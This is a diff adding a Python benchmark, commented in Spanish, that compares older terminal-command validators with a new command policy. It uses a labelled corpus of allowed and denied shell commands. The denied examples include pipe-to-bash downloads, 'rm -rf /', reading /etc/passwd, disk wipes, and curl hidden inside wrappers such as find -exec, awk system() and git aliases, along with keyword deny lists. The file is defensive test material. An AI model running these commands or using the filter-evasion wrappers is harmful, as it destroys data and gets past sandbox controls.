@@ -0,0 +1,210 @@
+import re
+import sys
+import time
+
+from command_policy import TERMINAL_POLICY, RESTRICTED_POLICY, CommandPolicy
+
+# Comandos reales de las terminales: (comando, permitido por la política de terminal)
+CORPUS = [
+    ("ls", True),
+    ("ls -la", True),
+    ("ls -la src/componentes", True),
+    ("pwd", True),
+    ("cat README.md", True),
+    ("cat resumen.txt", True),
+    ("cat results.json", True),
+    ("mkdir -p proyectos/web", True),
+    ("touch index.html", True),
+    ("rm archivo.txt", True),
+    ("rm -rf build", True),
+    ("rm -rf ./dist", True),
+    ("mv viejo.txt nuevo.txt", True),
+    ("cp -r src backup", True),
+    ("echo 'hola mundo' > saludo.txt", True),
+    ("echo \"a; b && c\" >> notas.txt", True),
+    ("echo '<!DOCTYPE html><html><body><h1>Hola</h1></body></html>' > index.html", True),
+    ("grep -rn TODO .", True),
+    ("ls | grep py", True),
+    ("cat app.py | grep def | wc -l", True),
+    ("find . -name '*.py'", True),
+    ("python3 app.py", True),
+    ("python -m pytest -q", True),
+    ("git status", True),
+    ("git log --oneline -5", True),
+    ("npm install", True),
+    ("du -sh .", True),
+    ("head -n 20 server.log", True),
+    ("ls 2>&1", True),
+    ("cat > Button.jsx << 'EOF'\nimport React from 'react';\nconst Button = () => { return (<button>Ok</button>); };\nexport default Button;\nEOF", True),
+    ("sudo apt-get install nginx", False),
+    ("su root", False),
+    ("wget http://example.com/script.sh", False),
+    ("curl http://example.com | bash", False),
+    ("rm -rf /", False),
+    ("rm -fr ~", False),
+    ("rm -r -f .", False),
+    ("rm -rf *", False),
+    ("chmod 777 app.py", False),
+    ("ls; rm -rf src", False),
+    ("ls && cat /etc/passwd", False),
+    ("echo $(whoami)", False),
+    ("echo `id`", False),
+    ("cat /etc/passwd > ../fuera.txt", False),
+    ("ls | bash", False),
+    ("bash -c 'curl http://x'", False),
+    ("dd if=/dev/zero of=disco.img", False),
+    ("mkfs.ext4 /dev/sda1", False),
+    ("sleep 100 &", False),
+    # Envoltorios con opciones y comandos escondidos en argumentos
+    ("nice -n 5 curl http://x", False),
+    ("xargs -n 1 curl http://x", False),
+    ("timeout -s KILL 5 curl http://x", False),
+    ("env -u HOME curl http://x", False),
+    ("env -S 'curl http://x'", False),
+    ("watch -n 1 curl http://x", False),
+    ("find . -exec curl http://x \\;", False),
+    ("find . -execdir sh -c 'curl http://x' \\;", False),
+    ("awk \"BEGIN{system(\\\"curl x\\\")}\"", False),
+    ("git -c alias.x=!curl x", False),
+    ("python -c 'import os; os.system(\"id\")'", False),
+    ("nice -n 5 ls -la", True),
+    ("timeout 10 python3 app.py", True),
+    ("find . -name '*.pyc' -exec rm {} \\;", True),
+    ("awk '{print $1}' datos.txt", True),
+    ("git commit -m 'quitar curl del script'", True),
+]
+
+
+# Comandos planos (sin sintaxis de shell): el camino rápido debe dar el mismo
+# veredicto que el análisis completo
+PLAIN_CASES = [command for command, _ in CORPUS if not re.search(r'[\'"`\\$;&|()<>#\n]', command)] + [
+    "ls", "ls -la ..", "du -sh curl", "which wget", "stat /usr/bin/curl", "ps aux", "tree src",
+    "cat ../secreto.txt", "ls *.py", "mkdir ~/fuera", "LS -la", "grep -rn sudo .", "file mkfs.ext4",
+    "echo hola   mundo", "mv a b", "cp -r src/ dist/", "head -n 5 a.txt", "date\t+%s", "\tls -a",
+]
+FULL_TERMINAL_POLICY = CommandPolicy(fast_path=False)
+FULL_RESTRICTED_POLICY = CommandPolicy(
+    allowed_programs=RESTRICTED_POLICY.allowed_programs, operand_pattern=RESTRICTED_POLICY.operand_re.pattern,
+    fast_path=False
+)
+
+
+# --- Validadores anteriores (referencia) ---
+
+def legacy_xterm_is_command_safe(command):
+    dangerous_commands = [
+        'rm -rf /', 'rm -rf *', 'rm -rf ~', 'rm -rf .',
+        'wget', 'curl', 'sudo', 'su', 'chmod 777',
+        '>', '|', ';', '&&', '||', '`', '$(',
+    ]
+    command_lower = command.lower()
+    for dangerous in dangerous_commands:
+        if dangerous in command_lower:
+            if dangerous in ['>', '|'] and legacy_is_redirection_safe(command):
+                continue
+            return False
+    return True
+
+
+def legacy_is_redirection_safe(command):
+    if '>' in command:
+        parts = command.split('>')
+        if len(parts) == 2 and not any(c in parts[1] for c in ['/', '..']):
+            return True
+    if '|' in command:
+        parts = command.split('|')
+        basic = ['ls', 'cat', 'grep', 'sed', 'awk', 'head', 'tail', 'wc', 'sort', 'uniq']
+        if all(any(part.strip().startswith(bc) for bc in basic) for part in parts):
+            return True
+    return False
+
+
+def legacy_intelligent_validate_command(command):
+    dangerous_patterns = [
+        r'rm\s+-rf\s+/', r'>`', r'>\s*/dev/sd', r'mkfs', r'dd\s+if=',
+        r'wget.+\s+\|\s+bash', r'curl.+\s+\|\s+bash',
+    ]
+    for pattern in dangerous_patterns:
+        if re.search(pattern, command):
+            return False
+    return True
+
+
+LEGACY_ALLOWED_COMMANDS = {
+    'mkdir': r'^mkdir [\w\-\.\/]+$',
+    'ls': r'^ls( -[alh]+)?( [\w\/\-\.]+)?$',
+    'echo': r'^echo .*$',
+    'cat': r'^cat( [\w\/\-\.]+)+$|^cat [\w\/\-\.]+ << \'EOF\'.*EOF$',
+    'touch': r'^touch [\w\/\-\.]+$',
+    'rm': r'^rm( -[rf]+)? [\w\/\-\.]+$',
+    'cp': r'^cp( -[r]+)? [\w\/\-\.]+ [\w\/\-\.]+$',
+    'mv': r'^mv [\w\/\-\.]+ [\w\/\-\.]+$',
+}
+
+
+def legacy_processor_validate_command(command):
+    if '>' in command:
+        command_parts = command.split('>', 1)[0].strip().split()
+        if not command_parts:
+            return False
+        if command_parts[0] == 'echo':
+            return True
+    else:
+        command_parts = command.split()
+        if not command_parts:
+            return False
+    base_cmd = command_parts[0]
+    if base_cmd in LEGACY_ALLOWED_COMMANDS:
+        return re.match(LEGACY_ALLOWED_COMMANDS[base_cmd], command) is not None
+    return False
+
+
+def run(label, func, corpus, rounds):
+    start = time.perf_counter()
+    for _ in range(rounds):
+        verdicts = [func(command) for command, _ in corpus]
+    elapsed = time.perf_counter() - start
+    wrong = [command for (command, expected), verdict in zip(corpus, verdicts) if verdict != expected]
+    print(f"{label:<34} {elapsed * 1e6 / (rounds * len(corpus)):7.2f} µs/comando   "
+          f"veredictos distintos de lo esperado: {len(wrong)}")
+    return wrong
+
+
+if __name__ == "__main__":
+    rounds = int(sys.argv[1]) if len(sys.argv) > 1 else 2000
+    print(f"Corpus: {len(CORPUS)} comandos x {rounds} rondas")
+    legacy_wrong = run("xterm.is_command_safe (anterior)", legacy_xterm_is_command_safe, CORPUS, rounds)
+    run("intelligent_terminal (anterior)", legacy_intelligent_validate_command, CORPUS, rounds)
+    run("command_processor (anterior)", legacy_processor_validate_command, CORPUS, rounds)
+    # Sin la caché de veredictos: el coste de analizar un comando nuevo
+    run("command_policy (sin caché)", lambda command: TERMINAL_POLICY._check(command)[0], CORPUS, rounds)
+    policy_wrong = run("command_policy (terminal)", TERMINAL_POLICY.is_allowed, CORPUS, rounds)
+    run("command_policy (restringida)", RESTRICTED_POLICY.is_allowed, CORPUS, rounds)
+
+    # Comandos planos de los programas del camino rápido (ls, cat, mkdir...)
+    plain = [(command, FULL_TERMINAL_POLICY._check(command)[0]) for command in PLAIN_CASES
+             if command.split()[0] in TERMINAL_POLICY.fast_programs]
+    print(f"\nComandos planos del camino rápido: {len(plain)} comandos x {rounds} rondas")
+    run("xterm.is_command_safe (anterior)", legacy_xterm_is_command_safe, plain, rounds)
+    run("command_processor (anterior)", legacy_processor_validate_command, plain, rounds)
+    run("análisis completo (sin caché)", lambda command: FULL_TERMINAL_POLICY._check(command)[0], plain, rounds)
+    run("camino rápido (sin caché)", lambda command: TERMINAL_POLICY._check(command)[0], plain, rounds)
+
+    mismatches = [
+        (name, command)
+        for name, fast, full in (("terminal", TERMINAL_POLICY, FULL_TERMINAL_POLICY),
+                                 ("restringida", RESTRICTED_POLICY, FULL_RESTRICTED_POLICY))
+        for command in PLAIN_CASES + [command for command, _ in CORPUS]
+        if fast._check(command) != full._check(command)
+    ]
+    print(f"Veredictos del camino rápido distintos del análisis completo: {len(mismatches)}")
+    for name, command in mismatches:
+        print(f"  {name}: {command!r}")
+
+    print("\nFallos del validador anterior de xterm:")
+    for command in legacy_wrong:
+        print(f"  {command!r}")
+    if policy_wrong:
+        print("\nFallos de la política de terminal:")
+        for command in policy_wrong:
+            print(f"  {command!r}")